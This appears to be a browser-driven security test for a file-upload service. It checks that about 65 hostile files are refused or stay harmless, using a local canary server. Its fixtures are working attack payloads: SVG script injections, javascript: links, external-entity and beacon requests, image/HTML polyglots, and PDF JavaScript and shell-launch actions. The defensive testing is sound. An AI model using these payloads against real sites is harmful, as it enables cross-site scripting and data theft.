// Files that attack whoever opens them: each is refused at upload, or harmless in a browser, opened by itself, in frames and
// as a part of another page. A canary hears of every script and of every request that leaves.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { gzipSync } from "node:zlib";
import { newArtist } from "./publisher.mjs";
import { found, launch, newPage, stack } from "./support.mjs";

let browser, artist, canary, at;
const heard = [];
before(async () => {
  // Answers with whatever page is asked for in the query, and notes all else.
  canary = createServer((request, response) => {
    const page = new URL(request.url, at).searchParams.get("page");
    if (page === null && request.url !== "/favicon.ico") heard.push(request.url);
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "access-control-allow-origin": "*" }).end(page ?? "");
  }).listen(0, "127.0.0.1");
  await new Promise((resolve) => canary.once("listening", resolve));
  at = `http://127.0.0.1:${canary.address().port}`;
  [browser, artist] = await Promise.all([launch({ isWhole: true }), newArtist()]);
});
after(async () => {
  await browser?.close();
  canary?.close();
});

const SVG = "image/svg+xml";
const picture = (content, attributes = "") => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${content}</svg>`;
const chunk = (type, content) => Buffer.concat([Buffer.from([0, 0, 0, content.length]), Buffer.from(type), Buffer.from(content), Buffer.alloc(4)]);
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
const GIF = Buffer.from("R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==", "base64");
const pdf = (action) => `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`;

/** Name, type that is announced, content. */
function files() {
  const code = `fetch('${at}/run');new Image().src='${at}/run';document.title='taken';window.taken=1;alert(1)`;
  const html = `<!doctype html><title>Sign in</title><script>${code}</script><img src="${at}/img"><iframe src="${at}/frame"></iframe>`;
  const page = `xmlns="http://www.w3.org/1999/xhtml"`;
  return [
    ["html as a picture", SVG, html],
    ["xhtml root around a picture", SVG, `<h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${code}</h:script>${picture("")}</h:div>`],
    ["script", SVG, picture(`<script>${code}</script>`)],
    ["script in CDATA", SVG, picture(`<script><![CDATA[${code}]]></script>`)],
    ["script from elsewhere", SVG, picture(`<script href="${at}/script"/>`)],
    ["script by xlink", SVG, picture(`<script xlink:href="${at}/script"/>`)],
    ["onload", SVG, picture("", `onload="${code}"`)],
    ["onbegin", SVG, picture(`<animate attributeName="x" dur="1s" onbegin="${code}"/>`)],
    ["foreignObject", SVG, picture(`<foreignObject width="9" height="9"><body ${page}><script>${code}</script></body></foreignObject>`)],
    ["foreignObject with a frame", SVG, picture(`<foreignObject><iframe ${page} src="${at}/frame"/></foreignObject>`)],
    ["frame", SVG, picture(`<iframe ${page} src="${at}/frame"/>`)],
    ["form", SVG, picture(`<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="${at}/form"><h:input/></h:form>`)],
    ["refresh", SVG, picture(`<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${at}/refresh"/>`)],
    ["javascript link", SVG, picture(`<a href="javascript:${code}"><text>x</text></a>`)],
    ["javascript link with a tab", SVG, picture(`<a href="java&#9;script:${code}"><text>x</text></a>`)],
    ["javascript link by xlink", SVG, picture(`<a xlink:href="javascript:${code}"><text>x</text></a>`)],
    ["link elsewhere", SVG, picture(`<a href="${at}/link"><text>Sign in again</text></a>`)],
    ["data link", SVG, picture(`<a href="data:text/html,<script>${code.replaceAll("<", "")}</script>"><text>x</text></a>`.replace("<script>", "&lt;script>").replace("</script>\"", "&lt;/script>\""))],
    ["animated link", SVG, picture(`<a><animate attributeName="href" to="javascript:alert(1)" dur="1s"/><text>x</text></a>`)],
    ["set handler", SVG, picture(`<set attributeName="onmouseover" to="alert(1)"/>`)],
    ["css import", SVG, picture(`<style>@import url(${at}/css);</style>`)],
    ["css import, escaped", SVG, picture(`<style>@\\69mport url(${at}/css);</style>`)],
    ["css background", SVG, picture(`<rect style="background:url(${at}/css)"/>`)],
    ["css font", SVG, picture(`<style>@font-face{font-family:x;src:url(${at}/font)}text{font-family:x}</style><text>x</text>`)],
    ["fill from elsewhere", SVG, picture(`<rect width="9" height="9" fill="url(${at}/fill#a)"/>`)],
    ["cursor from elsewhere", SVG, picture(`<rect width="9" height="9" cursor="url(${at}/cursor),auto"/>`)],
    ["image from elsewhere", SVG, picture(`<image href="${at}/image" width="9" height="9"/>`)],
    ["use from elsewhere", SVG, picture(`<use href="${at}/use#a"/>`)],
    ["feImage from elsewhere", SVG, picture(`<filter id="f"><feImage href="${at}/fe"/></filter><rect filter="url(#f)" width="9" height="9"/>`)],
    ["picture with a script as data", SVG, picture(`<image href="data:image/svg+xml;base64,${Buffer.from(picture("", `onload="${code}"`)).toString("base64")}" width="9" height="9"/>`)],
    ["entities", SVG, `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${picture("<text>&b;</text>")}`],
    ["entity from elsewhere", SVG, `<!DOCTYPE svg [<!ENTITY x SYSTEM "${at}/entity">]>${picture("<text>&x;</text>")}`],
    ["type from elsewhere", SVG, `<!DOCTYPE svg SYSTEM "${at}/dtd">${picture("")}`],
    ["style sheet of the document", SVG, `<?xml-stylesheet href="${at}/xsl" type="text/xsl"?>${picture("")}`],
    ["metadata with a script", SVG, picture(`<metadata><x:script xmlns:x="http://www.w3.org/1999/xhtml">${code}</x:script></metadata>`)],
    ["script in UTF-16", SVG, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(picture(`<script>${code}</script>`), "utf16le")])],
    ["script in UTF-7", SVG, `<?xml version="1.0" encoding="UTF-7"?>${picture("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")}`],
    ["packed script", SVG, gzipSync(picture(`<script>${code}</script>`))],
    ["nested a thousand times", SVG, picture("<g>".repeat(1000) + "</g>".repeat(1000))],
    ["script of unknown type", "application/octet-stream", picture(`<script>${code}</script>`)],
    ["html as png", "image/png", html],
    ["html behind a byte order mark as jpeg", "image/jpeg", `\uFEFF${html}`],
    ["html in a jpeg", "image/jpeg", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 250]), Buffer.from(html), Buffer.from([0xff, 0xd9])])],
    ["html in a png", "image/png", Buffer.concat([PNG.subarray(0, 33), chunk("tEXt", html.slice(0, 250)), PNG.subarray(33), Buffer.from(html)])],
    ["gif that is a script", "image/gif", Buffer.concat([Buffer.from("GIF89a/*"), GIF.subarray(8), Buffer.from(`*/=1;${code}`)])],
    ["bmp that is a page", "image/bmp", `BM${html}`],
    ["webp that is a page", "image/webp", `RIFF\0\0\0\0WEBPVP8 ${html}`],
    ["pdf with a script", "application/pdf", pdf(`<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('${at}/pdf'\\))>>`)],
    ["pdf that goes elsewhere", "application/pdf", pdf(`<</S/URI/URI(${at}/pdf)>>`)],
    ["pdf that starts a program", "application/pdf", pdf("<</S/Launch/F(/bin/sh)>>")],
    ["pdf behind a page", "application/pdf", html + pdf("null")],
    ["html as text", "text/plain", html],
    ["script as text", "text/plain", code],
    ["style sheet as text", "text/plain", `*{background:url(${at}/css)}`],
    ["mhtml as text", "text/plain", `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${html}\r\n--x--`],
    ["mhtml as a picture", "image/png", `From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`],
    ["html as json", "application/json", html],
    ["script as json", "application/json", `[${JSON.stringify(html)}]`],
    ["html of unknown type", "application/octet-stream", html],
    ["program", "application/octet-stream", `MZ\x90\0${"\0".repeat(60)}`],
    ["archive", "application/octet-stream", `PK\x03\x04${"\0".repeat(60)}`],
    ["film with a page behind it", "video/mp4", Buffer.concat([Buffer.from("\0\0\0\x18ftypisom\0\0\0\0isommp42", "latin1"), Buffer.from(html)])],
    ["sound that is a page", "audio/mpeg", `ID3\x03\0\0\0\0\0\0${html}`],
    ["model from elsewhere", "model/gltf-binary", `glTF\x02\0\0\0${JSON.stringify({ buffers: [{ uri: `${at}/model` }] })}`],
    ["page", "text/html", html],
    ["xhtml", "application/xhtml+xml", html],
    ["javascript", "text/javascript", code],
  ].map(([name, type, content]) => ({ name, type, bytes: Buffer.from(content) }));
}

/** Stores a file: its address, or the status with which it is refused. */
async function store({ name, type, bytes }) {
  const ask = async (path, body) => {
    const headers = { authorization: `Bearer ${artist.token}`, "content-type": "application/json" };
    const response = await fetch(`${stack.api}/${path}`, { method: "POST", headers, body: JSON.stringify(body) });
    return { status: response.status, answer: await response.json() };
  };
  const { status, answer } = await ask("uploads", { contentType: type, size: bytes.length });
  if (status === 400) return { status };
  assert.equal(status, 200, `${name}: ${answer.message}`);
  assert.ok((await fetch(answer.parts[0].url, { method: "PUT", body: bytes })).ok, name);
  const ended = await ask(`uploads/${answer.uploadId}/complete`, {});
  assert.ok([200, 422].includes(ended.status), `${name}: ${ended.status} ${ended.answer.message}`);
  return { status: ended.status, url: ended.answer.url };
}

/** A page of its own for one file after the other, and what it did that it shouldn't. */
async function watched() {
  const [page, seen, known] = [await newPage(browser), [], new Set()];
  page.on("dialog", async (dialog) => (seen.push(`a dialog: ${dialog.message()}`), dialog.dismiss()));
  page.on("popup", () => seen.push("a window"));
  page.on("request", (request) => {
    const own = [...known].some((address) => request.url().startsWith(address)) || /^(chrome|data|blob|about)/.test(request.url());
    if (!own) seen.push(`a request of ${request.url()}`);
  });
  /** Opens an address that shows a file's. */
  const open = async (address, url, what) => {
    known.clear();
    known.add(address).add(url);
    // A file that is saved aborts the navigation.
    await page.goto(address, { waitUntil: "load" }).catch((error) => assert.match(error.message, /Download is starting|ERR_ABORTED/, what));
  };
  return { page, seen, open };
}

test("hostile files are refused, or harmless wherever a browser shows them", async (context) => {
  const all = files();
  assert.ok(all.length >= 50);
  const taken = [];
  for (const file of all) {
    const { status, url } = await store(file);
    if (url) taken.push({ ...file, url });
    else context.diagnostic(`${file.name}: refused (${status})`);
  }
  // Each kind of attack on pictures that draw is refused; what is taken is what the browser is told not to run.
  assert.deepEqual(taken.filter(({ type }) => type === SVG).map(({ name }) => name).sort(), HARMLESS_PICTURES.sort());
  const within = (tag) => `${at}/?page=${encodeURIComponent(`<!doctype html><title>Elsewhere</title>${tag}`)}`;
  const ways = await Promise.all([
    ["by itself", (url) => url],
    ["in a frame", (url) => within(`<iframe src="${url}"></iframe>`)],
    ["as an object", (url) => within(`<object data="${url}"></object>`)],
    ["embedded", (url) => within(`<embed src="${url}">`)],
    ["as a picture", (url) => within(`<img src="${url}">`)],
    ["as a script", (url) => within(`<script src="${url}"></script>`)],
    ["as a style sheet", (url) => within(`<link rel="stylesheet" href="${url}">`)],
  ].map(async ([how, addressOf]) => Object.assign(await watched(), { how, addressOf })));
  const free = await newPage(browser);
  for (const [number, { name, url }] of taken.entries()) {
    await Promise.all(ways.map((way) => way.open(way.addressOf(url), url, `${name} ${way.how}`)));
    // A page that may leave is opened last, and leaves once it is loaded: by then each of the others could have.
    const left = `/left/${number}`;
    await free.goto(within(`<meta http-equiv="refresh" content="0;url=${at}${left}">`), { waitUntil: "commit" });
    await found(() => heard.includes(left), "a request of a page that leaves");
    await free.waitForURL(`${at}${left}`);
    heard.splice(heard.indexOf(left), 1);
    for (const { how, page, seen } of ways) {
      seen.push(...(await page.evaluate(() => [window.taken && "a script", document.title === "taken" && "a title"])).filter(Boolean));
      // Nothing of the file is in a frame: not even its text.
      for (const frame of page.frames().slice(1)) {
        assert.ok(!frame.url().startsWith(url), `${name} ${how}: a frame of it works`);
      }
      assert.deepEqual(seen, [], `${name} ${how}`);
    }
  }
  await Promise.all([free, ...ways.map(({ page }) => page)].map((page) => page.context().close()));
  assert.deepEqual(heard, [], "no request left");
  context.diagnostic(`${all.length} files, ${taken.length} of them taken: ${taken.map(({ name }) => name).join(", ")}`);
});

/** Pictures that are taken, since they show nothing but themselves: browsers know no UTF-7 and fetch no document type. */
const HARMLESS_PICTURES = ["nested a thousand times", "script in UTF-7", "type from elsewhere"];
